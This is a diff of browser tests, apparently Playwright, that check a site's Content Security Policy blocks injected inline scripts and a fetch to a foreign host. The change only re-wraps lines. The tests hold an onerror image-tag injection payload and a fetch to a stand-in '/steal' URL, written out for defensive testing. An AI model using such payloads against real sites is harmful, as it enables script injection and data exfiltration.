@@ -20,7 +20,8 @@ def test_injected_inline_script_is_blocked(page, site):
     page.evaluate(LISTEN)
     page.evaluate("""() => { const s = document.createElement('script');
         s.textContent = 'window.__inline = 1'; document.body.append(s);
-        document.body.insertAdjacentHTML('beforeend', '<img src="x.png" onerror="window.__inline = 2">'); }""")
+        document.body.insertAdjacentHTML('beforeend',
+          '<img src="x.png" onerror="window.__inline = 2">'); }""")
     page.wait_for_function("window.__violations.length >= 2", timeout=10_000)
     assert page.evaluate("window.__inline") is None
     assert all(v.startswith("script-src") for v in page.evaluate("window.__violations"))
@@ -29,7 +30,8 @@ def test_injected_inline_script_is_blocked(page, site):
 def test_fetch_to_a_foreign_host_is_blocked_by_the_policy(page, site):
     page.goto(site)
     page.evaluate(LISTEN)
-    outcome = page.evaluate("""async () => { try { await fetch('https://example.com/steal?x=1'); return 'sent'; }
+    outcome = page.evaluate("""async () => {
+        try { await fetch('https://example.com/steal?x=1'); return 'sent'; }
         catch (err) { return 'blocked: ' + err.message; } }""")
     assert outcome.startswith("blocked")
     page.wait_for_function("window.__violations.length >= 1", timeout=10_000)
